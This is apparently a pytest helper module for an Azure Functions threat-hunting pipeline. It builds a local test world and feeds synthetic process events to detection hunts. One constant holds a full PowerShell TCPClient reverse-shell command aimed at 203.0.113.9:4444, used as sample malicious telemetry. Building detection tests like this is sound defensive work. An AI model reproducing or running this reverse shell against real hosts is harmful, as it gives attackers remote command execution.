"""The fan-out's test world: Azurite tables and queues, a local Graph, a local managed-identity
endpoint and a local Teams webhook over real HTTP, and devtools/queue_host.py playing the
Functions host for the queue functions of function_app.py."""

from __future__ import annotations

import json
import shutil
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from azure.data.tables import TableServiceClient
from azure.functions.timer import TimerRequest

from devtools.fake_graph import FakeGraph
from devtools.identity import IdentityServer
from devtools.queue_host import QueueHost
from devtools.webhook import WebhookReceiver
from shared.cards import summarize_digest
from shared.fanout import DELIVERY_QUEUE, HUNTS_QUEUE, POISON_SUFFIX, CycleStore, decode
from shared.health.notices import health_kind
from shared.storage import Storage

REPO = Path(__file__).resolve().parents[1]
DEVICE = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
SHELL = ("powershell.exe -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',"
         "4444);$s = $client.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, "
         "$b.Length)) -ne 0){$d = (New-Object System.Text.ASCIIEncoding).GetString($b,0, $i);"
         "$r = (iex $d 2>&1 | Out-String );$r2 = $r + 'PS> ';$sb = ([text.encoding]::ASCII)"
         ".GetBytes($r2);$s.Write($sb,0,$sb.Length);$s.Flush()};$client.Close()\"")
SEED = "PowerShell TCPClient reverse shell (Microsoft original)"
SEED_ID = "7490e437-edc2-40b3-87fe-45b736593deb"
HUNT_FILES = ("microsoft-powershell-tcpclient.yaml", "powershell-socket-reverse-shell.yaml",
              "powershell-download-cradle-stager.yaml",
              "sentinel-powershell-socket-reverse-shell.yaml")
QUEUES = (HUNTS_QUEUE, DELIVERY_QUEUE, HUNTS_QUEUE + POISON_SUFFIX, DELIVERY_QUEUE + POISON_SUFFIX)


def process_event(report_id: int, when: datetime, command: str) -> dict[str, Any]:
    return {"Timestamp": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "DeviceId": DEVICE,
            "DeviceName": "ws-0042.contoso.local", "ReportId": report_id,
            "ActionType": "ProcessCreated", "FileName": "powershell.exe",
            "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "ProcessCommandLine": command, "AccountDomain": "contoso", "AccountName": "jdoe",
            "InitiatingProcessFileName": "cmd.exe",
            "InitiatingProcessCommandLine": "cmd.exe /c start.bat",
            "InitiatingProcessParentFileName": "winword.exe"}


def write_sample_events(path: Path, now: datetime) -> Path:
    """Two reverse shells and a benign PowerShell line on one device in the last hour."""
    rows = [process_event(1, now - timedelta(minutes=50), SHELL),
            process_event(2, now - timedelta(minutes=40), "powershell.exe Get-Service"),
            process_event(3, now - timedelta(minutes=30), SHELL.replace("4444", "443"))]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def user_function(name: str) -> Callable[..., None]:
    """The decorated function's user code, as the host calls it (``app.get_functions()`` may be
    called once per process: test_function_e2e does)."""
    import function_app

    function: Callable[..., None] = getattr(function_app, name)._function.get_user_function()
    return function


@contextmanager
def fanout_world(tmp_path: Path, queue_connection_string: str,
                 monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """Everything a fan-out test drives; ``HUNTWIRE_FANOUT=queue`` is set."""
    now = datetime.now(UTC).replace(microsecond=0)
    events = write_sample_events(tmp_path / "DeviceProcessEvents.jsonl", now)
    hunts = tmp_path / "hunts"
    hunts.mkdir()
    for name in HUNT_FILES:  # a few hunts keep the tests fast; the mechanism is per message
        shutil.copy(REPO / "hunts" / name, hunts / name)
    clear_tables(queue_connection_string)
    host = QueueHost(queue_connection_string, {
        HUNTS_QUEUE: user_function("hunt_worker"),
        DELIVERY_QUEUE: user_function("cycle_delivery"),
        HUNTS_QUEUE + POISON_SUFFIX: user_function("hunt_poison"),
        DELIVERY_QUEUE + POISON_SUFFIX: user_function("delivery_poison")})
    host.clear()
    with IdentityServer() as identity, FakeGraph({"DeviceProcessEvents": events}) as graph, \
            WebhookReceiver() as webhook:
        env = {**identity.env, "HUNTWIRE_STORAGE": queue_connection_string,
               "HUNTWIRE_GRAPH_ENDPOINT": graph.url, "HUNTWIRE_TEAMS_WEBHOOK_URL": webhook.url,
               "HUNTWIRE_HUNTS_DIR": str(hunts), "HUNTWIRE_SCHEDULE": "0 0 * * * *",
               "HUNTWIRE_FANOUT": "queue"}
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        import function_app

        function_app.settings.cache_clear()
        yield {"graph": graph, "webhook": webhook, "env": env, "host": host, "now": now}
        function_app.settings.cache_clear()


def clear_tables(connection_string: str) -> None:
    service = TableServiceClient.from_connection_string(connection_string)
    for table in service.list_tables():
        service.delete_table(table.name)


def run_timer() -> None:
    user_function("hourly_hunts")(TimerRequest(past_due=False))


def digests(webhook: WebhookReceiver, since: int = 0) -> list[Any]:
    """Findings posts (health notices left out), from the *since*-th post on."""
    return [p for p in webhook.payloads[since:] if health_kind(p) is None]


def notices(webhook: WebhookReceiver, kind: str) -> list[Any]:
    return [p for p in webhook.payloads if health_kind(p) == kind]


def reported(webhook: WebhookReceiver, since: int = 0) -> dict[str, int]:
    """Findings per hunt name over every findings post (from the *since*-th post on); fails if
    a hunt is named twice."""
    counts: dict[str, int] = {}
    for payload in digests(webhook, since):
        for name, findings in summarize_digest(payload).hunts:
            assert name not in counts, f"{name} reported in two posts"
            counts[name] = findings
    return counts


def graph_queries(graph: FakeGraph) -> int:
    return len([r for r in graph.requests if r.path.endswith("Query")])


def cycle_of(host: QueueHost) -> Any:
    storage = Storage.from_connection_string(host.connection_string)
    (entity,) = storage.table("huntwireFanout").list_entities()
    cycle = CycleStore(storage).get(entity["PartitionKey"], entity["RowKey"])
    assert cycle is not None
    return cycle


def take_message(host: QueueHost, name: str, wanted: Callable[[Any], bool], lease_seconds: int,
                 timeout: float = 60.0) -> Any:
    """Receive the message of *name* that *wanted* accepts, once it is visible, and put the
    others back. Waiting peeks (a receive counts a dequeue: polling with receives would push
    the other messages towards the poison queue); the one receive takes every visible message
    at once, so each other message is dequeued once."""
    deadline = time.monotonic() + timeout
    while True:
        peeked = host.client(name).peek_messages(max_messages=32)
        if any(wanted(m) for m in peeked):
            received = host.receive_visible(name, lease_seconds)
            found = next((m for m in received if wanted(m)), None)
            host.release(name, [m for m in received if m is not found])
            if found is not None:
                return found
        if time.monotonic() > deadline:
            raise AssertionError(f"no wanted message became visible in {name} within "
                                 f"{timeout:.0f} s")
        time.sleep(0.1)


def seed_message(host: QueueHost, lease_seconds: int) -> Any:
    """Receive the seed hunt's message (others are put back, dequeued once)."""
    return take_message(host, HUNTS_QUEUE,
                        lambda m: getattr(decode(m.content), "hunt", None) == SEED_ID,
                        lease_seconds, timeout=10)
